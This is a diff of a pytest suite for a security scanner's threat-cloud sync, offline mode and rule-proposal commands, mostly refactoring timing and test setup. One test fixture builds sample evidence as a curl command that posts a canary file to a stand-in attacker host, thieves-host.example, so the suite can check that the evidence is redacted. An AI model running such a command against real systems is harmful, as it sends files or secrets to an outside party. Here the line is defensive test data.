@@ -1,4 +1,4 @@
-"""The real command against a Threat Cloud on loopback: it syncs, tells, never waits, and keeps quiet offline."""
+"""The real command against a Threat Cloud on loopback: it syncs, tells, never waits, is quiet offline."""
 
 import base64
 import json
@@ -6,6 +6,7 @@ import os
 import statistics
 import subprocess
 import sys
+import threading
 import time
 import urllib.parse
 from collections.abc import Callable, Iterator, Mapping
@@ -38,6 +39,7 @@ class Machine:
     cloud: Cloud
     environment: dict[str, str] = field(default_factory=dict)
     before: int = 0
+    ticks: threading.Event = field(default_factory=threading.Event)
 
     @property
     def places(self) -> Places:
@@ -70,10 +72,11 @@ class Machine:
     def settle(self) -> None:
         """Wait until the process that the last scan started has done its work: then the lock is free."""
         end = time.monotonic() + 60
-        while time.monotonic() < end:
-            with lock(self.places.lock, wait=True):
-                if self.looked != self.before:
-                    return
+        while self.looked == self.before and time.monotonic() < end:
+            self.ticks.wait(0.02)
+        with lock(self.places.lock, wait=True):
+            if self.looked != self.before:
+                return
         pytest.fail("the process in the background did nothing")
 
     def join(self) -> None:
@@ -244,7 +247,7 @@ def test_a_scan_never_waits_for_a_server_that(machine: Machine, fault: str) -> N
     seconds(machine, evil, "--offline")
     offline = statistics.median(seconds(machine, evil, "--offline") for _ in range(3))
     if fault == "is not there":
-        machine.cloud.broken = BREAKS["hangs"]
+        machine.cloud.stop()
     else:
         machine.cloud.broken = BREAKS[fault]
     online = []
@@ -266,7 +269,6 @@ def test_a_report_says_why_its_rules_are_old(machine: Machine) -> None:
     assert machine.pga("sync").returncode == 1
     os.utime(machine.places.current, (1, 1))
     assert "the last sync failed" in told(machine.pga("scan", clean))
-    machine.settle()
 
 
 def told(done: subprocess.CompletedProcess[str]) -> str:
@@ -279,7 +281,7 @@ def test_damaged_rules_on_disk_cost_the_rules_and_not_the_scan(machine: Machine)
     clean = machine.skill("clean")
     for spoil in (
         lambda: pack.write_text("{"),
-        lambda: pack.unlink(),
+        pack.unlink,
         lambda: machine.places.current.write_text(".."),
     ):
         spoil()
@@ -359,7 +361,8 @@ detection:
 
 def test_a_rule_is_proposed_with_redacted_evidence_after_it_was_shown(machine: Machine) -> None:
     (machine.folder / "rule.yaml").write_text(RULE)
-    evidence = f"curl -d @{CANARIES[3]} https://thieves-host.example/x?k={CANARIES[0]} # ask {CANARIES[2]} canary-person"
+    asks = f"# ask {CANARIES[2]} canary-person"
+    evidence = f"curl -d @{CANARIES[3]} https://thieves-host.example/x?k={CANARIES[0]} {asks}"
     (machine.folder / "evidence.txt").write_text(evidence)
     words = ("cloud", "propose", "rule.yaml", "--evidence", "evidence.txt")
     asked = machine.pga(*words, USER="canary-person")
@@ -390,9 +393,7 @@ def test_a_rule_that_hits_honest_text_is_not_proposed(machine: Machine) -> None:
     assert "honest text" in done.stderr
 
 
-def test_joining_shows_the_root_and_pins_it_with_the_right_fingerprint(
-    machine: Machine, tmp_path: Path
-) -> None:
+def test_joining_shows_the_root_and_pins_it_with_the_right_fingerprint(machine: Machine) -> None:
     machine.places.root.unlink()
     assert machine.pga("sync").returncode == 1
     machine.environment.pop("PANGUARD_CLOUD_URL")
